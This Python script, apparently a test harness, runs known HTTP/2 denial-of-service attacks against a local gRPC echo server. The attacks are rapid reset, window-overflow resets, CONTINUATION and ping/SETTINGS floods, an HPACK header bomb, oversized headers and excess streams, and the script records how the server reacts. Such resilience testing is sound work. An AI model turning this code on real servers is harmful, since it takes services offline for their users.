"""Attacks an HTTP/2 server with hyperframe's raw frames. Each case is `name port`; prints what became of it."""

import socket
import struct
import sys
from pathlib import Path

from h2.config import H2Configuration
from h2.connection import H2Connection
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame
from hyperframe.frame import SettingsFrame, WindowUpdateFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = "/storeplane.testing.v1.EchoService/Echo"


class Attack:
    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.socket.settimeout(10)
        self.encoder = Encoder()
        self.send(PREFACE + SettingsFrame(0).serialize())

    def send(self, data):
        self.socket.sendall(data)

    def request(self, stream, extra=(), end=False):
        fields = [(":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "x"),
                  ("te", "trailers"), ("content-type", "application/grpc"), *extra]
        flags = ["END_HEADERS"] + (["END_STREAM"] if end else [])
        return HeadersFrame(stream, self.encoder.encode(fields), flags=flags).serialize()

    def cut_off(self):
        """Reads to the end; how the server ended the connection."""
        goaway = None
        data = b""
        try:
            while chunk := self.socket.recv(65536):
                data += chunk
        except ConnectionResetError:
            pass
        except TimeoutError:
            return "still open"
        while len(data) >= 9:
            length = int.from_bytes(data[:3], "big")
            if data[3] == 7:
                goaway = struct.unpack(">I", data[13:17])[0]
            data = data[9 + length:]
        return f"goaway {goaway}" if goaway is not None else "closed"


def attempt(body):
    """Runs the sending part; a server that hangs up in the middle has answered already."""
    try:
        body()
    except (BrokenPipeError, ConnectionResetError):
        pass


def case_rapid_reset(attack):
    def flood():
        for number in range(5000):
            stream = 2 * number + 1
            attack.send(attack.request(stream) + RstStreamFrame(stream, 8).serialize())
    attempt(flood)
    return attack.cut_off()


def case_made_you_reset(attack):
    # A window past 2^31-1 is a stream error: the server must reset, and we make it do so over and over.
    def flood():
        for number in range(5000):
            stream = 2 * number + 1
            update = bytes([0, 0, 4, 8, 0]) + struct.pack(">II", stream, 2**31 - 1)
            attack.send(attack.request(stream) + update)
    attempt(flood)
    return attack.cut_off()


def case_continuation_flood(attack):
    def flood():
        attack.send(HeadersFrame(1, attack.encoder.encode([(":method", "POST")])).serialize())
        for _ in range(10000):
            attack.send(ContinuationFrame(1, attack.encoder.encode([("a", "b" * 50)])).serialize())
    attempt(flood)
    return attack.cut_off()


def case_header_bomb(attack):
    # One large entry of the dynamic table, then thousands of one-byte references to it.
    big = attack.request(1, [("x-bomb", "b" * 3000)], end=True)
    attack.send(big)
    references = b"\xbe" * 4000
    fields = [(":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "x")]
    block = attack.encoder.encode(fields) + references
    attack.send(HeadersFrame(3, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
    return status_of(attack, 3)


def case_oversized_fields(attack):
    extra = [(f"x-{number}", "v" * 100) for number in range(300)]
    block = attack.request(1, extra, end=True)
    payload = block[9:]
    pieces = [payload[i:i + 16000] for i in range(0, len(payload), 16000)]
    attack.send(HeadersFrame(1, pieces[0], flags=["END_STREAM"] + (["END_HEADERS"] if len(pieces) == 1 else [])).serialize())
    for index, piece in enumerate(pieces[1:], 1):
        flags = ["END_HEADERS"] if index == len(pieces) - 1 else []
        attack.send(ContinuationFrame(1, piece, flags=flags).serialize())
    return status_of(attack, 1)


def case_endless_streams(attack):
    # Streams that never end, past the limit that the server announced.
    def flood():
        for number in range(400):
            attack.send(attack.request(2 * number + 1))
    attempt(flood)
    refused = 0
    attack.socket.settimeout(3)
    data = b""
    try:
        while chunk := attack.socket.recv(65536):
            data += chunk
    except (TimeoutError, ConnectionResetError):
        pass
    while len(data) >= 9:
        length = int.from_bytes(data[:3], "big")
        if data[3] == 3 and struct.unpack(">I", data[9:13])[0] in (1, 7):
            refused += 1
        if data[3] == 7:
            return "cut off"
        data = data[9 + length:]
    return "refused" if refused >= 400 - 256 else f"refused {refused}"


def case_ping_flood(attack):
    # We never read, so each answer stays with the server.
    def flood():
        frame = PingFrame(0, b"12345678").serialize() * 1000
        attack.socket.settimeout(3)
        for _ in range(3000):
            attack.send(frame)
    try:
        attempt(flood)
    except TimeoutError:
        return "stopped reading"
    return attack.cut_off()


def case_settings_flood(attack):
    def flood():
        frame = SettingsFrame(0).serialize() * 1000
        attack.socket.settimeout(3)
        for _ in range(3000):
            attack.send(frame)
    try:
        attempt(flood)
    except TimeoutError:
        return "stopped reading"
    return attack.cut_off()


def case_garbage(attack):
    attempt(lambda: attack.send(b"\xff" * 100_000))
    return attack.cut_off()


def status_of(attack, stream):
    """The :status of a response, by an ordinary decoder."""
    connection = H2Connection(H2Configuration(client_side=True, header_encoding="utf-8"))
    connection.initiate_connection()
    connection.data_to_send()
    # Tell the decoder of the streams that were opened behind its back.
    for number in range(1, stream + 1, 2):
        connection.send_headers(number, [(":method", "POST"), (":scheme", "http"), (":path", "/"), (":authority", "x")], end_stream=True)
    while True:
        data = attack.socket.recv(65536)
        if not data:
            return "closed"
        for event in connection.receive_data(data):
            if type(event).__name__ == "ResponseReceived" and event.stream_id == stream:
                return f"status {dict(event.headers)[':status']}"
            if type(event).__name__ in ("StreamReset", "ConnectionTerminated"):
                return type(event).__name__


for line in Path(sys.argv[1]).read_text().splitlines():
    name, port = line.split()
    print(globals()[f"case_{name}"](Attack(int(port))), flush=True)
